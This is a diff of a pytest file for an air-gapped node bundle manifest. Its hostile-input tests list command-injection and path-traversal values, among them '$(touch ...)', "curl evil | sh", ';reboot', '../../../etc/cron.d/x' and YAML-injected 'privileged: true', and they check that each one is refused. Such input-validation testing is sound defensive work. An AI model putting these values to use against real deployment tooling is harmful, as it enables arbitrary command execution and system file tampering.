@@ -25,36 +25,73 @@ INJECT = "$(touch /tmp/airnode-pwned)"
 
 
 def art(kind, name, version, file):
-    return {"kind": kind, "name": name, "version": version, "file": file, "size": 1,
-            "sha256": HEX, "source": f"https://example.org/{file}", "verified_by": "test"}
+    return {
+        "kind": kind,
+        "name": name,
+        "version": version,
+        "file": file,
+        "size": 1,
+        "sha256": HEX,
+        "source": f"https://example.org/{file}",
+        "verified_by": "test",
+    }
 
 
 VALID = {
-    "format": 1, "arch": "amd64",
+    "format": 1,
+    "arch": "amd64",
     "artifacts": [
-        art("deb", "containerd", "1.6.20~ds1-1+deb12u3",
-            "containerd/debs/containerd_1.6.20~ds1-1+deb12u3_amd64.deb"),
-        art("image", "127.0.0.1:5000/airnode/busybox:1", "1",
-            "images/127.0.0.1_5000_airnode_busybox_1.oci.tar"),
+        art(
+            "deb",
+            "containerd",
+            "1.6.20~ds1-1+deb12u3",
+            "containerd/debs/containerd_1.6.20~ds1-1+deb12u3_amd64.deb",
+        ),
+        art(
+            "image",
+            "127.0.0.1:5000/airnode/busybox:1",
+            "1",
+            "images/127.0.0.1_5000_airnode_busybox_1.oci.tar",
+        ),
         art("k0s", "k0s", "v1.34.1+k0s.0", "k0s/k0s-v1.34.1+k0s.0-amd64"),
-        art("k0s-airgap", "k0s airgap images", "v1.34.1+k0s.0",
-            "k0s/k0s-airgap-bundle-v1.34.1+k0s.0-amd64"),
-        art("kube-prometheus", "kube-prometheus", "v0.18.0",
-            "kube-prometheus/kube-prometheus-v0.18.0.tar.gz"),
+        art(
+            "k0s-airgap",
+            "k0s airgap images",
+            "v1.34.1+k0s.0",
+            "k0s/k0s-airgap-bundle-v1.34.1+k0s.0-amd64",
+        ),
+        art(
+            "kube-prometheus",
+            "kube-prometheus",
+            "v0.18.0",
+            "kube-prometheus/kube-prometheus-v0.18.0.tar.gz",
+        ),
         art("model", "smollm2:135m", "", "models/smollm2-135m.gguf"),
         art("ollama", "ollama", "v0.13.5", "ollama/v0.13.5/ollama-linux-amd64.tgz"),
     ],
-    "images": {"kube-prometheus": ["quay.io/prometheus/prometheus:v3.5.0"],
-               "model-server": ["docker.io/library/debian:bookworm-slim"]},
+    "images": {
+        "kube-prometheus": ["quay.io/prometheus/prometheus:v3.5.0"],
+        "model-server": ["docker.io/library/debian:bookworm-slim"],
+    },
     "spec": {
-        "arch": "amd64", "k0s": {"version": "v1.34.1+k0s.0"},
-        "containerd": {"source": "debian", "debs": [{
-            "url": "http://deb.debian.org/debian/pool/main/c/containerd/"
-                   "containerd_1.6.20~ds1-1%2Bdeb12u3_amd64.deb", "sha256": HEX}]},
-        "ollama": {"version": "v0.13.5"}, "kube_prometheus": {"version": "v0.18.0"},
+        "arch": "amd64",
+        "k0s": {"version": "v1.34.1+k0s.0"},
+        "containerd": {
+            "source": "debian",
+            "debs": [
+                {
+                    "url": "http://deb.debian.org/debian/pool/main/c/containerd/"
+                    "containerd_1.6.20~ds1-1%2Bdeb12u3_amd64.deb",
+                    "sha256": HEX,
+                }
+            ],
+        },
+        "ollama": {"version": "v0.13.5"},
+        "kube_prometheus": {"version": "v0.18.0"},
         "model_server": {"image": "docker.io/library/debian:bookworm-slim"},
-        "models": [{"name": "smollm2:135m", "url": "https://example.org/smollm2-135m.gguf",
-                    "sha256": HEX}],
+        "models": [
+            {"name": "smollm2:135m", "url": "https://example.org/smollm2-135m.gguf", "sha256": HEX}
+        ],
     },
 }
 
@@ -94,7 +131,7 @@ HOSTILE = [
     ("artifacts.0.version", "1.6.20;reboot", "artifacts[0].version"),
     ("artifacts.0.name", "containerd runc", "artifacts[0].name"),
     ("artifacts.5.name", f"smollm2{INJECT}", "artifacts[5].name"),
-    ("artifacts.5.name", "Smollm2:135M\"\nkind: Secret", "artifacts[5].name"),
+    ("artifacts.5.name", 'Smollm2:135M"\nkind: Secret', "artifacts[5].name"),
     ("artifacts.1.name", "busybox:1' && curl evil | sh '", "artifacts[1].name"),
     ("artifacts.1.name", "registry.example/UPPER/Case:1", "artifacts[1].name"),
     ("artifacts.5.file", "../../../etc/cron.d/x", "artifacts[5].file"),
@@ -123,17 +160,31 @@ HOSTILE = [
     ("spec.model_server", {"image": "debian:bookworm\n  privileged: true"}, "model_server.image"),
     ("spec.models", [{"name": "a'b", "url": "https://e.org/m.gguf"}], "models[0].name"),
     ("spec.models", [{"name": "m", "url": "https://e.org/%2F..%2F..%2Fx.gguf"}], "models[0].url"),
-    ("spec.containerd", {"source": "debian", "debs": [{
-        "url": "http://deb.example/pool/%2F..%2F..%2Fetc%2Fx_1_amd64.deb", "sha256": HEX}]},
-     "containerd.debs[0].url"),
-    ("spec.models", [{"name": "a", "url": "https://e.org/m.gguf"},
-                     {"name": "b", "url": "https://f.org/m.gguf"}], "the file name 'm.gguf'"),
+    (
+        "spec.containerd",
+        {
+            "source": "debian",
+            "debs": [
+                {"url": "http://deb.example/pool/%2F..%2F..%2Fetc%2Fx_1_amd64.deb", "sha256": HEX}
+            ],
+        },
+        "containerd.debs[0].url",
+    ),
+    (
+        "spec.models",
+        [
+            {"name": "a", "url": "https://e.org/m.gguf"},
+            {"name": "b", "url": "https://f.org/m.gguf"},
+        ],
+        "the file name 'm.gguf'",
+    ),
     ("spec.scripts", {"post": "id"}, "scripts: no such section"),
 ]
 
 
-@pytest.mark.parametrize("path, value, named", HOSTILE,
-                         ids=[f"{p}={str(v)[:30]!r}" for p, v, _ in HOSTILE])
+@pytest.mark.parametrize(
+    "path, value, named", HOSTILE, ids=[f"{p}={str(v)[:30]!r}" for p, v, _ in HOSTILE]
+)
 def test_a_hostile_field_is_refused_naming_it(tmp_path, path, value, named):
     with pytest.raises(manifest.ManifestError) as e:
         load(tmp_path, edit(path, value))
@@ -142,9 +193,17 @@ def test_a_hostile_field_is_refused_naming_it(tmp_path, path, value, named):
 
 
 def oci_archive(path: Path, name: str) -> Path:
-    index = {"schemaVersion": 2, "manifests": [{
-        "mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "sha256:" + HEX,
-        "size": 1, "annotations": {"io.containerd.image.name": name}}]}
+    index = {
+        "schemaVersion": 2,
+        "manifests": [
+            {
+                "mediaType": "application/vnd.oci.image.manifest.v1+json",
+                "digest": "sha256:" + HEX,
+                "size": 1,
+                "annotations": {"io.containerd.image.name": name},
+            }
+        ],
+    }
     with tarfile.open(path, "w") as tar:
         raw = json.dumps(index).encode()
         info = tarfile.TarInfo("index.json")
@@ -157,9 +216,11 @@ def test_an_image_name_from_an_oci_archive_is_held_to_the_reference_grammar(tmp_
     good = oci_archive(tmp_path / "good.tar", "registry.example/team/app:1")
     assert images.archive_images(good) == {"registry.example/team/app:1": "sha256:" + HEX}
     bad = oci_archive(tmp_path / "bad.tar", "registry.example/app:1'; touch /tmp/x; echo '")
-    with pytest.raises(rules.BundleValueError,
-                       match=r"bad.tar: index.json manifests\[0\].annotations"
-                             r"\[io.containerd.image.name\]"):
+    with pytest.raises(
+        rules.BundleValueError,
+        match=r"bad.tar: index.json manifests\[0\].annotations"
+        r"\[io.containerd.image.name\]",
+    ):
         images.archive_images(bad)
 
 
@@ -174,15 +235,34 @@ def test_a_dry_run_of_a_hostile_bundle_runs_nothing_it_says(tmp_path):
     tarball = bundle / "ollama/v0.13.5/ollama-linux-amd64.tgz"
     tarball.parent.mkdir(parents=True)
     tarball.write_bytes(b"not really a tarball")
-    a = manifest.entry("ollama", "ollama", f"v0.13.5$(touch {canary})",
-                       "ollama/v0.13.5/ollama-linux-amd64.tgz", bundle, None, "test")
+    a = manifest.entry(
+        "ollama",
+        "ollama",
+        f"v0.13.5$(touch {canary})",
+        "ollama/v0.13.5/ollama-linux-amd64.tgz",
+        bundle,
+        None,
+        "test",
+    )
     manifest.write(bundle, "amd64", [a], {}, {})
     inventory = tmp_path / "inventory.py"
     inventory.write_text('hosts = ["@local"]\n')
-    r = subprocess.run([str(Path(sys.executable).parent / "pyinfra"), "-y", "--dry", "--data",
-                        f"bundle_dir={bundle}", str(inventory), str(ROOT / "deploys/node.py")],
-                       capture_output=True, text=True, cwd="/", timeout=300,
-                       env=dict(os.environ))
+    r = subprocess.run(
+        [
+            str(Path(sys.executable).parent / "pyinfra"),
+            "-y",
+            "--dry",
+            "--data",
+            f"bundle_dir={bundle}",
+            str(inventory),
+            str(ROOT / "deploys/node.py"),
+        ],
+        capture_output=True,
+        text=True,
+        cwd="/",
+        timeout=300,
+        env=dict(os.environ),
+    )
     assert not canary.exists()
     assert r.returncode != 0
     assert "artifacts[0].version = 'v0.13.5$(touch" in r.stderr, r.stderr[-3000:]
